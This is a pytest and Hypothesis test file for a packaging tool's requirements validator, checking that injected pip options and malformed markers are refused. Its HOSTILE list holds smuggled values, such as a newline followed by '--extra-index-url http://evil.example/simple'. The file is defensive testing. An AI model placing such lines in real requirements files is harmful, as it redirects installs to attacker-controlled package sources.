"""A requirement line is validated whole, marker included: export refuses, check reports, the same rule."""

from __future__ import annotations

import re
import zipfile

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from ekdsl import PackagingError, load_target
from ekdsl.checks import check_package
from ekdsl.cli import main
from ekdsl.deploy.requirements import file_text, parse_line
from ekdsl.package import package_files

HOSTILE = [
    ("numpy ; python_version > '3'\n--extra-index-url http://evil.example/simple", "holds '\\n' (character 29)"),
    ("numpy\r", "holds '\\r'"),
    ("numpy\x00", "holds '\\x00'"),
    ("numpy\x0c--index-url=http://evil.example", "holds '\\x0c'"),
    ("numpy\x85", "holds '\\x85'"),
    ("numpy ; python_version > '3' --extra-index-url=http://evil.example", "is a pip option ('--extra-index-url"),
    ("numpy ; python_version == '3 --pre'", "is a pip option ('--pre'"),
    ("numpy[ --pre ]", "is a pip option ('--pre'"),
    ("numpy ; os_name == '${HOME}'", "holds '${', which pip expands"),
    ("numpy ; python_version > '3' \\", "has a marker that is not a PEP 508 marker"),
    ("numpy ; shell == 'x'", "'shell' is not a marker variable"),
    ("numpy ; python_version > 3", "has a marker that is not a PEP 508 marker (unexpected '3')"),
    ("numpy ; (python_version > '3'", "a '(' is not closed"),
    ("numpy ==1 >=2", "is not a requirement pip understands"),
    ("numpy[a b]", "is not a requirement pip understands"),
]


@pytest.mark.parametrize(("line", "message"), HOSTILE)
def test_hostile_lines_are_refused(line, message):
    with pytest.raises(PackagingError, match=re.escape(message)):
        parse_line(line, "requirements.txt:1")


PLUGIN = """
from ekdsl import Plugin

plugin = Plugin("hostreq", requirements=[{line!r}])

@plugin.function
def f(x: str) -> str:
    return x
"""


@pytest.mark.parametrize(("line", "message", "in_file"), [
    (HOSTILE[0][0], HOSTILE[0][1], "requirement '--extra-index-url http://evil.example/simple' (requirements.txt:2) "
                                   "is a pip option"),
    (HOSTILE[3][0], HOSTILE[3][1], "requirement '--index-url=http://evil.example' (requirements.txt:2) is a pip "
                                   "option"),
    (HOSTILE[5][0], HOSTILE[5][1], HOSTILE[5][1]),
    (HOSTILE[8][0], HOSTILE[8][1], HOSTILE[8][1]),
], ids=["newline", "form-feed", "option-in-marker", "env-variable"])
def test_export_refuses_and_check_reports_them(make_module, tmp_path, line, message, in_file):
    """In a package's requirements.txt, pip's own line split applies: each part is checked as export does."""
    hostile = make_module(PLUGIN.format(line=line))
    with pytest.raises(PackagingError, match=re.escape(message)):
        package_files(load_target(str(hostile)).model())
    files = package_files(load_target(str(make_module(PLUGIN.format(line="numpy")))).model(), vendor=False)
    path = tmp_path / "hostreq.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for name, (data, mode) in files.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            zf.writestr(info, line.encode() + b"\n" if name == "requirements.txt" else data)
    report = check_package(str(path))
    assert any(in_file in f.message for f in report.findings if f.level == "error"), report.findings
    assert main(["check", str(path)]) == 1


# PEP 508 pieces, for lines that must be accepted
IDENT = st.from_regex(r"[A-Za-z0-9]([A-Za-z0-9._-]{0,8}[A-Za-z0-9])?", fullmatch=True)
VERSION = st.from_regex(r"[0-9]{1,3}(\.[0-9]{1,3}){0,2}(\.\*)?", fullmatch=True)
CLAUSE = st.tuples(st.sampled_from(["==", ">=", "<=", "!=", "~=", "<", ">", "==="]), VERSION).map("".join)
MARKER = st.builds(lambda var, op, val: f"{var} {op} '{val}'",
                   st.sampled_from(["python_version", "sys_platform", "platform_machine", "os_name", "extra"]),
                   st.sampled_from(["==", "!=", ">=", "<", "in", "not in"]),
                   st.from_regex(r"[A-Za-z0-9._ -]{0,10}", fullmatch=True).filter(lambda v: " -" not in v))
VALID = st.builds(
    lambda name, extras, clauses, markers: (
        name + (f"[{','.join(extras)}]" if extras else "") + " " + ", ".join(clauses)
        + (" ; " + " and ".join(markers) if markers else "")),
    IDENT, st.lists(IDENT, max_size=2), st.lists(CLAUSE, max_size=3), st.lists(MARKER, max_size=3))


@given(VALID)
@settings(max_examples=150)
def test_pep_508_lines_are_accepted(line):
    req = parse_line(line)
    assert req is not None and req.text == line.strip()


@given(st.text(max_size=80) | st.builds(lambda a, b: a + b, VALID, st.text(max_size=20)))
@example(HOSTILE[0][0])
@example("numpy ; python_version == '3 --pre'")
@settings(max_examples=300)
def test_an_accepted_line_is_one_plain_pip_line(line):
    """Whatever the text: a clean refusal, or a line pip reads as exactly one requirement and no option."""
    try:
        req = parse_line(line)
    except PackagingError:
        return
    if req is None:
        return
    text = req.text
    assert file_text([req]).splitlines() == [text]  # pip's own split: str.splitlines
    assert not any(word.startswith("-") for word in text.replace("\t", " ").split(" "))  # pip's option split
    assert "${" not in text and not text.endswith("\\") and all(" " <= c <= "~" or c == "\t" for c in text)
    assert parse_line(text) == req
